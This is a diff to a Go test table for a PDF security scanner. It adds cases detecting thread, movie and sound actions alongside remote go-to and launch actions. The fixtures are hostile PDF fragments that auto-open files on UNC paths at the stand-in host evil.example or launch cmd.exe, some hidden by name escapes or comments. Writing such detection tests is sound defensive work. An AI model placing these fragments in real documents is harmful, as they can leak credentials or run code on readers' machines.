@@ -371,6 +371,18 @@ a)`),
 		{name: "remote go-to a UNC path", data: pdfFile(`/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>`), findings: []string{"pdf: remote go-to action"}},
 		{name: "remote go-to, escaped", data: pdfFile(`/OpenAction << /S /GoTo#52 /F << /FS /URL /F (\\\\evil.example\\x.pdf) >> >>`), findings: []string{"pdf: remote go-to action"}},
 		{name: "remote go-to in an object stream", data: objStmWith(`<< /S /GoToR /F (\\\\e\\x.pdf) /D [0 /Fit] >>`), findings: []string{"pdf: remote go-to action"}},
+		// A thread action with a file specification opens an article
+		// in another file, as a remote go-to does; a movie or a sound
+		// may play a file given by its path.
+		{name: "thread in a UNC path", data: pdfFile(`/OpenAction << /S /Thread /F (\\\\evil.example\\share\\x.pdf) /D 0 >>`), findings: []string{pdfThread}},
+		{name: "thread, escaped", data: pdfFile(`/OpenAction << /S /Thr#65ad /F << /FS /URL /F (file://evil.example/x.pdf) >> /D 0 >>`), findings: []string{pdfThread}},
+		{name: "thread after a type written far from it", data: pdfFile(`/OpenAction << /Type /Action /S % comment
+/Thread /F (\\\\evil.example\\x.pdf) >>`), findings: []string{pdfThread}},
+		{name: "thread in an object stream", data: objStmWith(`<< /S /Thread /F (\\\\e\\x.pdf) /D 0 >>`), findings: []string{pdfThread}},
+		{name: "an article thread is no action", data: pdfFile("/Threads [4 0 R] >>\nendobj\n4 0 obj\n<< /Type /Thread /F 5 0 R /I << /Title (a) >>")},
+		{name: "an article thread, type with a comment", data: pdfFile("/Threads [4 0 R] >>\nendobj\n4 0 obj\n<< /Type % the kind\n/Thread /F 5 0 R")},
+		{name: "movie with a file", data: pdfFile(`/Annots [<< /Subtype /Movie /Movie << /F (\\\\evil.example\\m.mov) >> >>]`), findings: []string{pdfMovieSound}},
+		{name: "sound action", data: pdfFile(`/OpenAction << /S /Sound /Sound 6 0 R >>`), findings: []string{pdfMovieSound}},
 		{name: "launch a UNC path", data: pdfFile(`/OpenAction << /S /Launch /F (\\\\evil.example\\share\\a.exe) >>`), findings: []string{"pdf: launch action"}},
 		{name: "launch, escaped", data: pdfFile(`/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >>`), findings: []string{"pdf: launch action"}},
 	} {
